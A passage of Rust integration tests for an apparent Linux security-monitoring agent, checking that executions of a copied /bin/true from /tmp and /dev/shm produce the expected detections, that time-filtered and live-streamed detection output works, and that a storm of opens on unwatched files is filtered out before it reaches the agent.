    assert!(ids(&rule).contains(&critical_d["id"]), "{}", show(&rule));
    assert!(
        rule.iter().all(|d| d["rule_id"] == "exec-from-dev-shm"),
        "{}",
        show(&rule)
    );

    thread::sleep(Duration::from_millis(1500));
    let recent = agent.detections(&["--since", "1s"]);
    assert!(
        !ids(&recent).contains(&high_d["id"]) && !ids(&recent).contains(&critical_d["id"]),
        "--since 1s, 1.5 s after both:\n{}",
        show(&recent)
    );
    let later_pid = spawn_detached(&hidden.to_string_lossy(), None);
    let mut recent = Vec::new();
    let later = wait_for(REPORT_DEADLINE, || {
        recent = agent.detections(&["--since", "1s"]);
        recent
            .iter()
            .find(|d| d["process"]["pid"] == json!(later_pid))
            .cloned()
    })
    .unwrap_or_else(|| {
        panic!(
            "--since 1s must show the new one ({later_pid}):\n{}",
            show(&recent)
        )
    });
    assert_eq!(
        later["rule_id"],
        json!("exec-from-hidden-tmp-path"),
        "{later}"
    );
    assert!(
        !ids(&recent).contains(&high_d["id"]) && !ids(&recent).contains(&critical_d["id"]),
        "--since 1s:\n{}",
        show(&recent)
    );
}

#[test]
fn follow_streams_a_new_detection_live() {
    require_root();
    let agent = Agent::start(&[]);
    let mut scratch = Scratch::new();
    let tmp = scratch.unique_dir("/tmp");
    let shm = scratch.unique_dir("/dev/shm");
    let first = scratch.copy("/bin/true", tmp.join("first"));
    let second = scratch.copy("/bin/true", shm.join("second"));

    // A detection before following: the backlog line proves the stream is subscribed.
    let first_pid = spawn_detached(&first.to_string_lossy(), None);
    wait_detection(
        &agent,
        &["--rule", "exec-from-tmp"],
        REPORT_DEADLINE,
        by_pid(first_pid),
    )
    .unwrap_or_else(|r| panic!("no detection for {first_pid}:\n{}", show(&r)));

    let mut follower = agent
        .command(&["detections", "--follow", "--json"])
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(Stdio::null())
        .spawn()
        .expect("start detections --follow");
    let (tx, rx) = mpsc::channel::<String>();
    let stdout = follower.stdout.take().expect("piped stdout");
    thread::spawn(move || {
        for line in BufReader::new(stdout).lines() {
            let Ok(line) = line else { break };
            if tx.send(line).is_err() {
                break;
            }
        }
    });
    let mut lines: Vec<Value> = Vec::new();
    let read_until = |deadline: Instant, pid: u32, lines: &mut Vec<Value>| -> bool {
        while let Some(left) = deadline.checked_duration_since(Instant::now()) {
            match rx.recv_timeout(left) {
                Ok(line) => {
                    let v: Value = serde_json::from_str(&line)
                        .unwrap_or_else(|err| panic!("not JSON ({err}): {line}"));
                    let hit = v["process"]["pid"] == json!(pid);
                    lines.push(v);
                    if hit {
                        return true;
                    }
                }
                Err(_) => return false,
            }
        }
        false
    };
    let backlog = read_until(
        Instant::now() + Duration::from_secs(5),
        first_pid,
        &mut lines,
    );
    assert!(
        backlog,
        "the follower's backlog must list pid {first_pid}:\n{}",
        show(&lines)
    );

    let second_pid = spawn_detached(&second.to_string_lossy(), None);
    let streamed = read_until(Instant::now() + REPORT_DEADLINE, second_pid, &mut lines);
    let _ = follower.kill();
    let _ = follower.wait();
    assert!(
        streamed,
        "the follower must stream pid {second_pid}'s detection within {REPORT_DEADLINE:?}:\n{}",
        show(&lines)
    );
    let d = lines.last().expect("a line");
    assert_eq!(d["rule_id"], json!("exec-from-dev-shm"), "{d}");
}

/// Issue 4: with the shipped policies, a storm of opens on files no rule watches never
/// reaches the ring buffer: the kernel's pre-filter drops them before a record is reserved.
/// Counted, not timed: `status` shows how many file_open records the agent received.
/// Reads go to a file below /var/lib (a path whose `lib` component a write rule watches:
/// reads must still stay out); writes go below /srv. The pre-filter matches write rules by
/// component name at any depth, so writes below a directory named like a watched one
/// (`lib`, `etc`, `bin`...) are sent to userspace and dropped there: a known superset.
#[test]
fn unrelated_open_storm_stays_off_the_ring_buffer() {
    require_root();
    const OPENS: u32 = 200_000;
    let agent = Agent::start(&[]);
    let mut scratch = Scratch::new();
    let read_dir = scratch.unique_dir("/var/lib");
    let read_target = scratch.file(read_dir.join("unwatched.dat"), b"x", 0o644);
    let write_dir = scratch.unique_dir("/srv");
    let write_target = scratch.file(write_dir.join("unwatched.dat"), b"x", 0o644);
    let received = |agent: &Agent| agent.status()["events"]["file_open"]["received"].as_u64();
    let before = received(&agent).expect("status reports file_open counters");
    let script = format!(
        "import os\nfor _ in range({OPENS}):\n    os.close(os.open({:?}, os.O_RDONLY))\n\
         for _ in range({OPENS} // 10):\n    os.close(os.open({:?}, os.O_WRONLY))\n",
        read_target.display().to_string(),
        write_target.display().to_string()
    );
    let storm = Command::new("/usr/bin/python3")
        .arg("-c")
        .arg(&script)
        .stdout(Stdio::null())
        .spawn()
        .expect("start the open storm");
    let storm_pid = storm.id();
    let out = storm.wait_with_output().expect("the open storm finished");
    assert!(out.status.success(), "open storm failed: {out:?}");
    // Let anything that did get through be drained before counting.
    std::thread::sleep(Duration::from_millis(500));
    let after = received(&agent).expect("status reports file_open counters");
    let status = agent.status();
    // Every agent sees every process: the other scenarios running beside this one open
    // watched files too, so what counts is what came from the storm itself.
    let leaked = agent.events(&["--kind", "file_open", "--pid", &storm_pid.to_string()]);
    assert!(
        leaked.is_empty(),
        "{} unwatched opens of {} reached the agent (file_open received {} during the storm); \
         first: {}",
        leaked.len(),
        OPENS + OPENS / 10,
        after - before,
        show(&leaked[..leaked.len().min(3)])
    );
    assert_eq!(status["events"]["file_open"]["dropped"], 0, "{status}");
}
